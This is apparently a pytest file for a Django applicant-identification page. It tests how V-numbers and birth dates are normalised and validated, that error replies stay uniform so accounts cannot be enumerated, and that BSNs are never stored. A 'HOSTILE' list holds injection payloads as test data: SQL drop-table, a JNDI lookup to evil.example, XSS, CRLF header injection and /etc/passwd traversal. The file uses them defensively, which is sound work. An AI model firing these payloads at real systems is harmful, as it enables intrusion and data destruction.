"""Who are you? What people type, paste and try in the two boxes of the first page."""

import re
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from applicants.birth_dates import PARTS
from applicants.fields import VNumberField
from tests.bad_input.keys import valkey_contents
from tests.booking.steps import identify, text
from tests.factories import ApplicantFactory

pytestmark = pytest.mark.django_db

WHO = "/en/who/"
UNIFORM = "We cannot find this number and date of birth together."


def refused_at(response, box):
    """Whether the page is shown again, its summary leading to `box`."""
    page = response.content.decode()
    return response.status_code == 200 and f'<a href="#id_{box}">' in page


@pytest.mark.parametrize("typed", ["", " ", "\t \n", "\u00a0", "\u200b", "V", "-", "."])
def test_an_empty_number_is_asked_for_again(client, person, typed, nothing_changes):
    with nothing_changes():
        response = identify(client, person, v_number=typed)

    assert refused_at(response, "v_number")


@pytest.mark.parametrize("digits", [1, 9, 11, 50, 61, 5_000, 50_000])
def test_too_few_or_too_many_digits_are_counted_for_the_person(
    client, person, digits, nothing_changes
):
    with nothing_changes():
        response = identify(client, person, v_number="2" * digits)

    assert refused_at(response, "v_number")
    assert "exactly 10 digits" in text(response)
    assert len(response.content) < 20_000


@pytest.mark.parametrize("box", ["v_number", "birth_date_day", "birth_date_year"])
def test_a_form_of_a_million_characters_is_too_large(client, person, box, nothing_changes):
    with nothing_changes():
        response = identify(client, person, **{box: "1" * 10**6})

    assert response.status_code == 413
    assert "Nothing was saved" in text(response)


@pytest.mark.parametrize(
    "typed",
    [
        "V 2001-000.001",
        "v2001000001",
        "  2001 000 001\n",
        "2001–000—001",
        "\ufeff2001000001",
        "\u200f2001\u200b000\u200d001\u00ad",
        "2001\u00a0000\u202f001",
        "\u202a2001000001\u202c",
        "Ｖ２００１０００００１",
        "٢٠٠١٠٠٠٠٠١",
        "۲۰۰۱۰۰۰۰۰۱",
        "²⁰⁰¹⁰⁰⁰⁰⁰¹",
        "₂₀₀₁₀₀₀₀₀₁",
        "२००१०००००१",
        "𝟚𝟘𝟘𝟙𝟘𝟘𝟘𝟘𝟘𝟙",
    ],
)
def test_what_comes_along_when_a_number_is_pasted_is_forgiven(client, person, typed):
    assert identify(client, person, v_number=typed).url == WHO


@pytest.mark.parametrize("language", ["uk", "ru", "nl", "en"])
@pytest.mark.parametrize("typed", ["2ОО1ОООООl", "200100000З", "2001OOOOO1", "20010000ІІ"])
def test_letters_that_look_like_digits_are_named_in_the_own_language(
    client, person, typed, language, nothing_changes
):
    with nothing_changes():
        response = client.post(f"/{language}/", {"v_number": typed})

    with translation.override(language):
        assert str(VNumberField.default_error_messages["digits"]) in text(response)


@pytest.mark.parametrize(
    "typed",
    ["ⅣⅣⅣⅣⅣⅣⅣⅣⅣⅣ", "一二三四五六七八九十", "½½½½½", "2001e00001", "+200100001", "0x2001000"],
)
def test_what_only_looks_like_a_number_is_none(client, person, typed, nothing_changes):
    with nothing_changes():
        response = identify(client, person, v_number=typed)

    assert refused_at(response, "v_number")


@pytest.mark.parametrize(
    ("day", "month", "year"),
    [
        ("１７", "５", "１９９０"),
        ("١٧", "٥", "١٩٩٠"),
        ("¹⁷", "⁵", "¹⁹⁹⁰"),
        (" 17 ", "\u200b05", "1990\ufeff"),
    ],
)
def test_a_date_is_read_in_the_same_digits_as_a_number(client, person, day, month, year):
    parts = {"birth_date_day": day, "birth_date_month": month, "birth_date_year": year}

    assert identify(client, person, **parts).url == WHO


HOSTILE = [
    "' OR 1=1--",
    "2001000001'; drop table applicants_applicant;--",
    "{{7*7}}",
    "{% load static %}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "%0d%0aX-Evil: 1",
    "\r\nX-Evil: 1",
    "../../../etc/passwd",
    "%s%n%d",
    "=1+1",
]


@pytest.mark.parametrize("typed", HOSTILE)
@pytest.mark.parametrize(
    "box", ["v_number", "birth_date_day", "birth_date_month", "birth_date_year"]
)
def test_what_is_meant_for_a_machine_is_a_plain_mistake(
    client, person, box, typed, nothing_changes
):
    with nothing_changes():
        response = identify(client, person, **{box: typed})

    page = response.content.decode()
    assert response.status_code == 200
    assert "govuk-error-summary" in page
    assert "<script>alert" not in page
    assert "<img" not in page
    assert "49" not in re.findall(r'value="([^"]*)"', page)
    assert "X-Evil" not in response.headers


def test_an_unknown_number_and_a_wrong_date_get_the_same_bytes(client, person):
    wrong, unknown = {"birth_date_year": "1991"}, {"v_number": "9999999999"}
    answers = []
    for mistake in wrong, unknown:
        with CaptureQueriesContext(connection) as queries:
            answers.append((identify(client, person, **{**wrong, **mistake}), len(queries)))

    (one, queries_of_one), (other, queries_of_other) = answers
    assert UNIFORM in text(one)
    assert without_what_was_sent(one) == without_what_was_sent(other)
    assert one.status_code == other.status_code == 200
    assert headers(one) == headers(other)
    assert set(one.cookies) == set(other.cookies)
    assert queries_of_one == queries_of_other


@pytest.mark.parametrize(
    "state", [{"served_on": "2026-01-02"}, {"withdrawn_on": "2026-11-01"}, {"set_apart": True}]
)
def test_a_wrong_date_says_nothing_about_how_far_the_person_is(client, state):
    person = ApplicantFactory(**state)

    wrong = identify(client, person, birth_date_year="1991")
    unknown = identify(client, person, v_number="9999999999", birth_date_year="1991")

    assert without_what_was_sent(wrong, person.v_number) == without_what_was_sent(unknown)


def without_what_was_sent(response, number="2001000001"):
    """The page without the number that it repeats and the token of its form."""
    page = re.sub(r'(name="csrfmiddlewaretoken" value=)"\w+"', r"\1", response.content.decode())
    for sent in number, "9999999999":
        page = page.replace(sent, "").replace(f"{sent[:4]} {sent[4:7]} {sent[7:]}", "")
    return page


def headers(response):
    """What the answer says beside the page; the clock moves by itself."""
    return {
        name: value
        for name, value in response.headers.items()
        if name not in {"Expires", "Content-Length"}
    }


@pytest.mark.parametrize(
    ("parts", "box"),
    [
        (("30", "2", "1990"), "day"),
        (("29", "2", "2023"), "day"),
        (("31", "4", "1990"), "day"),
        (("32", "1", "1990"), "day"),
        (("17", "13", "1990"), "month"),
        (("17", "May", "1990"), "month"),
        (("5", "17", "1990"), "month"),
        (("17", "5", "90"), "year"),
        (("17", "5", "1850"), "year"),
        (("17", "5", "1899"), "year"),
        (("17", "5", "2990"), "year"),
        (("17", "5", "19900"), "year"),
        (("17", "5", "0000"), "year"),
        (("1e1", "5", "1990"), "day"),
        (("17", "5", ""), "year"),
        (("", "5", "1990"), "day"),
        (("1" * 5_000, "5", "1990"), "day"),
    ],
)
def test_the_wrong_part_of_a_date_is_named(client, person, parts, box, nothing_changes):
    day, month, year = parts

    with nothing_changes():
        response = identify(
            client, person, birth_date_day=day, birth_date_month=month, birth_date_year=year
        )

    assert refused_at(response, f"birth_date_{PARTS.index(box)}")
    assert "27 3 1988" in text(response)


@pytest.mark.parametrize("days", [0, 1, 30])
def test_nobody_is_born_today_or_later(client, person, days, nothing_changes):
    day = timezone.localdate() + timedelta(days=days)
    parts = {"birth_date_day": day.day, "birth_date_month": day.month, "birth_date_year": day.year}

    with nothing_changes():
        response = identify(client, person, **parts)

    assert response.status_code == 200
    assert "must be in the past" in text(response) or "not be in the future" in text(response)


@pytest.mark.parametrize(
    "typed", [("0", "0"), ("00", "00"), ("5", "3"), ("31", "12"), ("00", "03")]
)
def test_who_is_registered_with_a_year_only_is_known_by_the_year(client, typed):
    person = ApplicantFactory(birth_date="1990-00-00")
    day, month = typed

    assert identify(client, person, birth_date_day=day, birth_date_month=month).url == WHO


@pytest.mark.parametrize("typed", [("0", "0"), ("17", "0"), ("0", "5")])
def test_a_year_alone_opens_nobody_whose_birth_date_is_known(client, person, typed):
    day, month = typed

    response = identify(client, person, birth_date_day=day, birth_date_month=month)

    assert UNIFORM in text(response)


@pytest.mark.parametrize(
    "typed", ["111222333", "1112.22.333", "V111222333", "１１１２２２３３３", " 111 222 333 "]
)
@pytest.mark.parametrize("form", ["booking:start", "booking:add"])
def test_a_bsn_is_recognised_not_repeated_and_stored_nowhere(
    identified, typed, form, nothing_changes
):
    with nothing_changes():
        response = identified.post(reverse(form), {"v_number": typed})

    assert "This looks like a BSN" in text(response)
    for kept in (
        response.content.decode(),
        str(response.headers),
        everything_stored(),
        valkey_contents(),
    ):
        assert "111222333" not in re.sub(r"[ .]", "", kept)


def everything_stored():
    """All rows of all tables, as text."""
    with connection.cursor() as cursor:
        stored = ""
        for name in connection.introspection.table_names():
            cursor.execute(f"select string_agg(t::text, ' ') from {name} t")  # noqa: S608
            stored += cursor.fetchone()[0] or ""
    return stored
